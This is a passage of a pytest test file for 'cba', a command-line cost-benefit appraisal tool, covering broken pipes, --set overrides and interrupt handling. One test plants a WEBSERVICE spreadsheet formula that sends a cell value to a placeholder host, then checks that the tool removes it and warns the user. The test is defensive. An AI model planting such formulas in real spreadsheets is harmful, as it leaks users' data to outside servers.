    if unbuffered:
        env["PYTHONUNBUFFERED"] = "1"
    read_end, write_end = os.pipe()
    os.close(read_end)
    try:
        done = subprocess.run(
            [sys.executable, "-m", "cba", *(str(a) for a in args)],
            cwd=cwd,
            stdout=write_end,
            stderr=subprocess.PIPE,
            text=True,
            timeout=300,
            check=False,
            env=env,
        )
    finally:
        os.close(write_end)
    return done.returncode, done.stderr


@pytest.mark.parametrize(
    "args",
    [
        ("--help",),
        ("schema",),
        ("validate", ONE),
        ("scale", SCALE_EXAMPLE),
        ("run", ONE, "-o", "results"),
    ],
    ids=["help", "schema", "validate", "scale", "run"],
)
def test_closed_pipe_exits_quietly(tmp_path: Path, args: tuple[str | Path, ...]) -> None:
    from cba.cli import EXIT_BROKEN_PIPE

    code, err = closed_pipe_run(*args, cwd=tmp_path)
    assert code == EXIT_BROKEN_PIPE == 141, err
    assert err == ""
    if args != ("--help",):  # argparse itself ignores a failed write of the help text
        assert closed_pipe_run(*args, cwd=tmp_path, unbuffered=True) == (141, "")


def test_closed_pipe_verify(tmp_path: Path) -> None:
    """``cba verify book.xlsx | head``: the reader closing early is not an internal error."""
    book = tmp_path / "book.xlsx"
    written = cli_subprocess("run", ONE, "-o", book, "--json", tmp_path / "x.json", cwd=tmp_path)
    assert written.returncode == 0, written.stderr
    verified = cli_subprocess("verify", book, "--scenario", ONE, cwd=tmp_path)
    assert verified.returncode == 0, verified.stderr  # the workbook verifies
    code, err = closed_pipe_run("verify", book, "--scenario", ONE, cwd=tmp_path)
    assert code == 141, err
    assert err == ""


def test_closed_pipe_in_process(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    class ClosedPipe(io.StringIO):
        def write(self, text: str) -> int:
            raise BrokenPipeError(32, "Broken pipe")

        def flush(self) -> None:
            raise BrokenPipeError(32, "Broken pipe")

    monkeypatch.setattr(sys, "stdout", ClosedPipe())
    assert main(["validate", str(ONE)]) == 141
    assert "internal error" not in capsys.readouterr().err


def test_run_keep_going_closing_line_counts_the_skipped_files(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    folder = _mixed_folder(tmp_path)
    code, out, _ = cli(capsys, "run", folder, "-o", tmp_path / "results", "--keep-going")
    assert code == 2
    assert out.splitlines()[-1] == (
        "1 scenario appraised; 1 invalid file skipped; 2 files written "
        f"(1 workbook, 1 JSON results) in {tmp_path / 'results'}"
    )


def test_run_says_what_was_dropped_from_a_template(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A partner template's live formula (here one that would send results to a server) is
    dropped, the user is told, and the output has no such formula."""
    import zipfile

    import openpyxl

    template = tmp_path / "branded.xlsx"
    book = openpyxl.load_workbook(ROOT / "templates" / "xlsx" / "default.xlsx")
    book["Cover"]["H40"] = '=WEBSERVICE("http://example.invalid/?"&A1)'
    book.save(template)
    scenario = SCENARIO_DIR / "balsall_heath_community_safety.yaml"
    out = tmp_path / "out"
    assert main(["run", str(scenario), "--template", str(template), "-o", str(out), "-q"]) == 0
    err = capsys.readouterr().err
    assert "Cover!H40" in err and "WEBSERVICE is not allowed" in err
    with zipfile.ZipFile(out / "balsall_heath_community_safety.xlsx") as archive:
        assert not any(b"WEBSERVICE" in archive.read(n) for n in archive.namelist())


# --- cba run --set is the file edited ---------------------------------------------------------


def _flow_yaml(value: Any) -> str:
    """Plain data as one YAML flow node: text double-quoted (JSON escapes are YAML escapes),
    whole-number keys (years, grades) left unquoted as the scenario language wants them."""
    if isinstance(value, dict):
        items = (
            f"{key if isinstance(key, int) else json.dumps(key)}: {_flow_yaml(item)}"
            for key, item in value.items()
        )
        return "{" + ", ".join(items) + "}"
    if isinstance(value, list | tuple):
        return "[" + ", ".join(_flow_yaml(item) for item in value) + "]"
    if isinstance(value, bool):
        return "true" if value else "false"
    if value is None:
        return "null"
    if isinstance(value, float):
        return repr(value)
    return json.dumps(value)


def _edited_file(scenario: Any, path: str, value: Any, target: Path) -> Path:
    """The scenario written out as a file with one input changed: an edit made without cba."""
    data = scenario.to_data()
    node: Any = data
    parts = path.split(".")
    for part in parts[:-1]:
        if isinstance(node, list):
            node = (
                next(i for i in node if i.get("id") == part)
                if part[0].isalpha()
                else (node[int(part)])
            )
        else:
            key: Any = int(part) if part.isdigit() and int(part) in node else part
            if key not in node:  # a block the file leaves at its default: write it out
                node[key] = scenario.model_dump(mode="python")[key]
            node = node[key]
    last: Any = parts[-1]
    if isinstance(node, dict) and last.isdigit() and int(last) in node:
        last = int(last)
    node[last] = value
    target.write_text(_flow_yaml(data) + "\n", encoding="utf-8")
    return target


SET_CASES = [
    (SCENARIO_DIR / "balsall_heath_community_safety.yaml", path, value)
    for path, value in (
        ("options.resident_patrols.benefits.burglary_avoided.deadweight", 0.45),
        ("options.resident_patrols.community_inputs.street_patrols.hours_per_volunteer", 60.0),
        ("options.resident_patrols.costs.coordinator.amount_per_year", 31000.0),
        ("discounting.schedule", "green_book_2026_lower_rate"),
        ("confidence_grades.corrections.3", 0.2),
        ("appraisal_period_years", 8),
    )
] + [
    (SCENARIO_DIR / "green_corridor_cleanup.yaml", path, value)
    for path, value in (
        ("options.friends_of_the_brook.benefits.fly_tipping_avoided.drop_off", 0.07),
        ("options.friends_of_the_brook.costs.maintenance.start_year", 2027),
    )
]


@pytest.mark.parametrize(
    ("scenario_path", "path", "value"), SET_CASES, ids=[c[1].split(".")[-1] for c in SET_CASES]
)
def test_set_gives_the_figures_of_the_file_edited_to_the_same_value(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, scenario_path: Path, path: str, value: Any
) -> None:
    """``cba run --set PATH=VALUE`` and ``cba run`` of a copy of the file with that value typed
    in (written here without cba's help) give the same figures, bit for bit."""
    edited = _edited_file(cba.load_scenario(scenario_path), path, value, tmp_path / "edited.yaml")
    code, _, err = cli(capsys, "run", edited, "-o", tmp_path / "edited", "-q")
    assert code == 0, err
    code, _, err = cli(
        capsys, "run", scenario_path, "-o", tmp_path / "set", "-q", "--set", f"{path}={value}"
    )
    assert code == 0, err
    (by_file,) = (tmp_path / "edited").glob("*.json")
    (by_set,) = (tmp_path / "set").glob("*.variant-*.json")
    file_doc = json.loads(by_file.read_text(encoding="utf-8"))
    set_doc = json.loads(by_set.read_text(encoding="utf-8"))
    assert set_doc["provenance"]["variant"]["settings"] == f"{path}={value}"
    for key in ("options", "sensitivity", "schedules", "years"):
        assert set_doc[key] == file_doc[key], key


def test_set_with_a_wildcard_sets_every_matching_input(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    balsall = SCENARIO_DIR / "balsall_heath_community_safety.yaml"
    pattern = "options.*.community_inputs.*.value_per_hour"
    code, _, err = cli(capsys, "run", balsall, "-o", tmp_path, "-q", "--set", f"{pattern}=12.6")
    assert code == 0, err
    (written,) = tmp_path.glob("*.variant-*.json")
    doc = json.loads(written.read_text(encoding="utf-8"))
    scenario = cba.load_scenario(balsall)
    paths = [
        f"options.{o.id}.community_inputs.{i.id}.value_per_hour"
        for o in scenario.options
        for i in o.community_inputs
        if getattr(i, "value_per_hour", None) is not None
    ]
    assert paths
    expected = cba.run(cba.with_values(scenario, dict.fromkeys(paths, 12.6)))
    (option,) = [o for o in doc["options"] if o["option_id"] == "resident_patrols"]
    assert (
        option["incremental"]["npsv"]["value"]
        == expected.option("resident_patrols").incremental.npsv
    )
    code, _, err = cli(
        capsys, "run", balsall, "-o", tmp_path / "none", "-q", "--set", "options.*.nothing=1"
    )
    assert code == 2
    assert "options.*.nothing: names no input" in err
    assert not (tmp_path / "none").exists()


def test_sensitivity_of_the_counterfactual_or_an_unknown_option_is_refused(
    capsys: pytest.CaptureFixture[str],
) -> None:
    code, _, err = cli(capsys, "sensitivity", ONE, "--option", "reactive_cleansing")
    assert code == 2 and "the counterfactual" in err
    code, _, err = cli(capsys, "sensitivity", ONE, "--option", "nope")
    assert code == 2 and "--option nope: no such option" in err and "friends_of_the_brook" in err


def test_ctrl_c_turned_into_a_library_error_is_reported_as_an_interruption(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """pydantic-core reports a Ctrl-C that arrives while it builds a validator as its own
    SchemaError; cba must still say it was interrupted (exit 130), not report a bug."""
    import os
    import signal
    import time

    import cba.cli as cli_module

    def interrupted_inside_a_library(*_: Any) -> int:
        try:
            os.kill(os.getpid(), signal.SIGINT)
            time.sleep(5)
        except KeyboardInterrupt as exc:
            raise RuntimeError('Error building "definitions" validator') from exc
        return 0

    monkeypatch.setattr(cli_module, "command_validate", interrupted_inside_a_library)
    capsys.readouterr()
    code = main(["validate", "scenario.yaml"])
    err = capsys.readouterr().err
    assert code == 130, err
    assert "internal error" not in err
    assert signal.getsignal(signal.SIGINT) is signal.default_int_handler  # restored
